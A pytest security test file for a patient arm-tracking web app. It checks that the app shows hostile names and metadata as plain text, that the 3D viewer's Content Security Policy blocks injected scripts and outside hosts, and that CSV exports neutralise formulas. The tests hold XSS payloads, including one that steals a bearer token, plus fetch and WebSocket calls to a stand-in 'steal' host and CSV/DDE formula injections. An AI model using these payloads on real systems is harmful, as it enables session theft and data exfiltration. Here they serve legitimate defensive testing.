"""Text that a user or a kit controls is shown as text everywhere (issue 17, item 2), and the
3D view's page policy lets no injected script run or reach another host.

The attack that worked: a patient named
``<iframe srcdoc="<script>top.document.title=top.sessionStorage.getItem('armtrack.token')
</script>">`` put the therapist's bearer token in the page's title, because the viewer
passed the name to viser's markdown (which renders raw HTML) and the viewer page allowed
inline scripts. Here the same names, kit names, target notes and recording metadata go
through a real server into Debian's headless chromium: the dashboard pages and the 3D
view (viser, in the session page's iframe) must show them literally, run none of them,
and still draw the arm. Screenshots are saved (their folder is printed;
``ARMTRACK_SCREENSHOTS`` chooses it)."""

from __future__ import annotations

import dataclasses
import re
import shutil
from pathlib import Path

import httpx
import pytest
from browser_helpers import chromium, need_browser, screenshots_folder
from server_support import ServerProcess

#: What the attacker named the patient (the report's exact payload, then more). What an
#: injected script would write ("pwned") is not in the text itself.
STEAL = ("<iframe srcdoc=\"<script>top.document.title=top.sessionStorage.getItem("
         "'armtrack.token')</script>\"></iframe>")
IMG = "<img src=x onerror=\"top.document.title='pw'+'ned-img'\">"
NAME = f"{STEAL}{IMG} **bold** $x$"
KIT = "<svg onload=\"top.document.title='pw'+'ned-kit'\"></svg>kit"
NOTE = "<script>top.document.title='pw'+'ned-note'</script>[link](javascript:alert(1))"


def parse_csp(header: str) -> dict[str, list[str]]:
    out = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


@pytest.fixture(scope="module")
def srv(tmp_path_factory):
    server = ServerProcess(tmp_path_factory.mktemp("content"))
    server.create_user("alice")
    server.start(timeout=120)
    yield server
    server.stop()


@pytest.fixture(scope="module")
def hostile(srv):
    """A patient, kit, target and uploaded session full of markup."""
    from armtrack.estimator.recording import Mark, format_recording
    from armtrack.estimator.simulation import SimulationConfig, simulate

    api = srv.client("alice")
    patient = api.patient(name=NAME)
    api.device(patient["id"], name=KIT)
    answer = api.http.put(f"/api/patients/{patient['id']}/targets/elbow_flexion",
                          json={"min_deg": 0, "max_deg": 120, "note": NOTE})
    assert answer.status_code == 200, answer.text
    recording = simulate(SimulationConfig(exercise="elbow_flexion", seed=2,
                                          repetitions=3)).recording
    recording = dataclasses.replace(recording, marks=(Mark(9.0, "exercise:elbow_flexion"),),
                                    metadata={"clinic": IMG, "formula": "=HYPERLINK(1)"})
    text = format_recording(recording)
    answer = api.http.post("/api/recordings", data={"patient_id": str(patient["id"])},
                           files={"file": ("hostile.csv", text)})
    assert answer.status_code == 201, answer.text
    return api, patient, answer.json()


def test_viewer_policy_allows_no_injected_script_and_no_other_host(srv, hostile):
    api, patient, session = hostile
    grant = api.http.post("/api/viewer", json={"patient_id": patient["id"],
                                               "session_id": session["id"]}).json()
    answer = httpx.get(srv.url + grant["url"])
    assert answer.status_code == 200
    header = answer.headers["content-security-policy"]
    print(header)
    csp = parse_csp(header)
    script = csp["script-src"]
    assert "'unsafe-inline'" not in script and "'unsafe-eval'" not in script, script
    assert any(s.startswith("'sha256-") for s in script), script
    for directive in ("connect-src", "script-src", "default-src", "img-src", "style-src",
                      "font-src", "worker-src"):
        for source in csp.get(directive, []):  # no other host, no bare scheme of sockets
            assert source not in ("ws:", "wss:", "http:", "https:", "*"), (directive, source)
    assert csp["frame-src"] == ["'none'"] and csp["object-src"] == ["'none'"]
    assert csp["base-uri"] == ["'none'"] and csp["form-action"] == ["'none'"]


# -- in a real browser -------------------------------------------------------------------

@pytest.fixture(scope="module")
def shots(tmp_path_factory) -> Path:
    return screenshots_folder(tmp_path_factory)


@pytest.fixture(scope="module")
def browser():
    sync_api = need_browser()
    with sync_api.sync_playwright() as playwright, chromium(playwright, 1366) as context:
        yield sync_api, context


def sign_in(sync_api, page, base: str) -> None:
    from server_support import PASSWORD

    page.goto(base + "/signin")
    page.fill("#username", "alice")
    page.fill("#password", PASSWORD)
    page.click("#submit")
    page.wait_for_url(re.compile(r".*/patients$"))


@pytest.mark.slow
@pytest.mark.parametrize("width", [1366, 390])
def test_hostile_texts_are_shown_as_text_and_run_nothing(srv, hostile, browser, shots,
                                                         width):
    sync_api, context = browser
    _, patient, session = hostile
    page = context.new_page()
    page.set_viewport_size({"width": width, "height": 900})
    page.set_default_timeout(30_000)
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text)
            if "Content Security Policy" in m.text else None)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        sign_in(sync_api, page, srv.url)
        sync_api.expect(page.locator("#patients tbody")).to_contain_text("<iframe srcdoc=")
        page.goto(f"{srv.url}/patients/{patient['id']}")
        sync_api.expect(page.locator("h1")).to_have_text(NAME)
        sync_api.expect(page.locator("#devices")).to_contain_text(KIT)
        page.screenshot(path=str(shots / f"hostile-patient-{width}.png"), full_page=True,
                        timeout=90_000)
        page.goto(f"{srv.url}/sessions/{session['id']}")
        frame = page.frame_locator("#viewer-frame")
        canvas = frame.locator("canvas").first
        sync_api.expect(canvas).to_be_visible(timeout=60_000)
        # the panel starts minimised to its title ("Replay controls"): opened, its heading
        # shows the name literally, markup and all
        frame.get_by_text("Replay controls").click(timeout=60_000)
        sync_api.expect(frame.locator("body")).to_contain_text(STEAL, timeout=30_000)
        sync_api.expect(frame.locator("body")).to_contain_text("**bold** $x$")
        page.wait_for_timeout(2000)  # time for anything injected to run
        page.screenshot(path=str(shots / f"hostile-session-{width}.png"), full_page=True,
                        timeout=90_000)
        token = page.evaluate("sessionStorage.getItem('armtrack.token')")
        assert token, "signed in: the page holds a token"
        title = page.title()
        print("title:", title, "| dialogs:", dialogs, "| CSP reports:", violations)
        assert token not in title and "pwned" not in title, title
        assert not dialogs
        # nothing of the markup became elements in the 3D view or the page
        assert frame.locator("iframe, img[src='x'], svg[onload]").count() == 0
        assert page.locator("#viewer-frame").count() == 1
        assert page.locator("iframe").count() == 1
        assert not violations  # viser's own scripts, workers and socket need nothing else

        # and were markup to slip through, the viewer's policy would not run it or let it
        # reach another host
        viewer = page.frame(url=re.compile(r".*/viewer/.*"))
        assert viewer is not None
        viewer.evaluate("""() => {
            const div = document.createElement('div');
            div.innerHTML = '<img src=x onerror="window.__ran_handler = true">';
            document.body.appendChild(div);
            const script = document.createElement('script');
            script.textContent = 'window.__ran_script = true';
            document.body.appendChild(script);
            fetch('http://198.51.100.7/steal').catch(() => null);
            try { new WebSocket('ws://198.51.100.7/steal'); } catch (e) { }
        }""")
        page.wait_for_timeout(1500)
        assert viewer.evaluate("[window.__ran_handler, window.__ran_script]") == [None, None]
        print("CSP reports after injecting:", violations)
        assert any("script" in v for v in violations)
        assert any("198.51.100.7" in v and "connect" in v for v in violations)
    finally:
        page.close()


def test_a_name_with_dollars_is_text_in_the_pdf(srv, tmp_path):
    """matplotlib read "$…$" in a patient's name as a formula: a broken one failed the PDF."""
    from armtrack.estimator.recording import format_recording
    from armtrack.estimator.simulation import SimulationConfig, simulate

    api = srv.client("alice")
    name = "Ann $\\frac{1}{$ Lee $x$"
    patient = api.patient(name=name)
    recording = simulate(SimulationConfig(exercise="elbow_flexion", seed=3,
                                          repetitions=2)).recording
    answer = api.http.post("/api/recordings", data={"patient_id": str(patient["id"])},
                           files={"file": ("dollars.csv", format_recording(recording))})
    assert answer.status_code == 201, answer.text
    pdf = api.http.get(f"/api/sessions/{answer.json()['id']}/report.pdf")
    assert pdf.status_code == 200, pdf.text[:300]
    if shutil.which("pdftotext") is None:
        pytest.skip("needs poppler-utils' pdftotext to read the PDF back")
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf.content)
    import subprocess

    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert name in text, text[:500]


def test_csv_cells_for_spreadsheets_start_no_formula(srv, hostile):
    """OWASP CSV injection: a text cell starting with = + - @ is shown as text (a leading
    apostrophe); numbers, negative angles included, stay numbers. The audit CSV's client
    column is anyone's text (a forwarded address from a proxy)."""
    import csv
    import io

    api, patient, session = hostile
    forged = "=HYPERLINK(\"http://198.51.100.7/\",\"open\")"
    api.http.get(f"/api/patients/{patient['id']}", headers={"X-Forwarded-For": forged})
    api.http.get(f"/api/sessions/{session['id']}/report",
                 headers={"X-Forwarded-For": "-2+3"})
    for path in ("/api/audit?format=csv", f"/api/sessions/{session['id']}/report.csv",
                 f"/api/patients/{patient['id']}/progress.csv"):
        answer = api.http.get(path)
        assert answer.status_code == 200, (path, answer.text[:200])
        rows = list(csv.reader(io.StringIO(answer.text)))
        for row in rows[1:]:
            for value in row:
                try:
                    float(value)
                    continue  # a number, e.g. a negative angle
                except ValueError:
                    assert not value.startswith(("=", "+", "-", "@")), (path, value)
        if path.startswith("/api/audit") and forged in answer.text:  # the proxy header held
            assert "'" + forged.replace('"', '""') in answer.text


def test_spreadsheet_text_neutralises_formulas_only():
    from armtrack.server.spreadsheet import spreadsheet_text

    assert spreadsheet_text("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
    assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)" and spreadsheet_text("+1") == "'+1"
    assert spreadsheet_text(-12.5) == -12.5 and spreadsheet_text("elbow") == "elbow"


#: Header values a kit may send that a spreadsheet would split into a formula cell: after a
#: comma (the CSV's separator), a semicolon (Excel's in many locales), a quote or spaces.
SPLIT_FORMULAS = {"note": "fine,=HYPERLINK(\"http://198.51.100.7/?\"&A12,\"open\")",
                  "clinic": "north; +cmd|' /C calc'!A0",
                  "site": "a, \"-2+3\"",
                  "offsets": "0.1, -0.2"}  # numbers stay numbers


def formula_cells(text: str) -> list[str]:
    """The cells of ``text`` a spreadsheet would take as formulas, read with a comma and
    with a semicolon as the separator (numbers, e.g. -0.2, are not formulas)."""
    import csv
    import io

    found = []
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for value in row:
                bare = value.lstrip(" \"")
                try:
                    float(bare.strip(" \""))
                    continue
                except ValueError:
                    if bare.startswith(("=", "+", "-", "@")):
                        found.append(value)
    return found


def test_a_kits_header_text_starts_no_formula_cell_in_an_exported_recording(srv):
    """recording.csv's header lines (``# key: value``) carried a kit's text as it came: a
    spreadsheet splits the line at a comma (or a semicolon) and took the rest as a formula
    — an uploaded header's value, or the device name of a streamed kit's hello."""
    import contextlib
    import json
    import zipfile
    from io import BytesIO

    from armtrack.estimator.recording import format_recording, parse_recording
    from armtrack.estimator.simulation import SimulationConfig, simulate
    from websockets.sync.client import connect

    api = srv.client("alice")
    patient = api.patient(name="Cleo")
    kit = api.device(patient["id"], name="home kit")
    recording = simulate(SimulationConfig(exercise="elbow_flexion", seed=3,
                                          repetitions=2)).recording
    text = format_recording(dataclasses.replace(recording, metadata=SPLIT_FORMULAS)).decode()
    assert formula_cells(text), "the upload itself must hold what is tested"
    answer = httpx.post(srv.url + "/api/recordings", files={"file": ("kit.csv", text)},
                        headers={"Authorization": f"Bearer {kit['token']}"}, timeout=60)
    assert answer.status_code == 201, answer.text
    uploaded = answer.json()["id"]

    # a kit whose hello names it with a formula after a comma (the sync client: the browser
    # fixture of this module keeps an event loop running in this thread)
    with connect(srv.url.replace("http", "ws") + "/ws/ingest", proxy=None,
                 additional_headers={"Authorization": f"Bearer {kit['token']}"}) as ws:
        ws.send(json.dumps({"type": "hello", "protocol": 1, "device": "kit 7,=1+1",
                            "side": "right", "sensors": ["forearm"], "rate_hz": 100,
                            "nine_axis": False, "resume": None}))
        assert json.loads(ws.recv(30))["type"] == "ready"
        rows = [[i / 100, 0.0, 9.81, 0.0, 0.0, 0.0, 0.0, None, None, None] for i in range(200)]
        ws.send(json.dumps({"type": "samples", "seq": 0, "sensor": "forearm", "rows": rows}))
        while json.loads(ws.recv(30)).get("type") != "ack":
            pass
        ws.send(json.dumps({"type": "bye"}))
        with contextlib.suppress(Exception):
            ws.recv(10)
    streamed = max(s["id"] for s in api.http.get(
        f"/api/patients/{patient['id']}/sessions").json())
    assert streamed != uploaded
    exports = {}
    for session_id in (uploaded, streamed):
        answer = api.http.get(f"/api/sessions/{session_id}/recording.csv")
        assert answer.status_code == 200, answer.text
        exports[f"session {session_id}"] = answer.text
    answer = api.http.get(f"/api/patients/{patient['id']}/export")
    assert answer.status_code == 200, answer.text
    with zipfile.ZipFile(BytesIO(answer.content)) as archive:
        for name in archive.namelist():
            if name.endswith("recording.csv"):
                exports[name] = archive.read(name).decode()
    for where, exported in exports.items():
        header = [line for line in exported.splitlines() if line.startswith("#")]
        print(where, header[-3:])
        assert formula_cells(exported) == [], where
        parse_recording(exported.encode())  # still a recording the estimator reads
    assert "# offsets: 0.1, -0.2" in exports[f"session {uploaded}"]
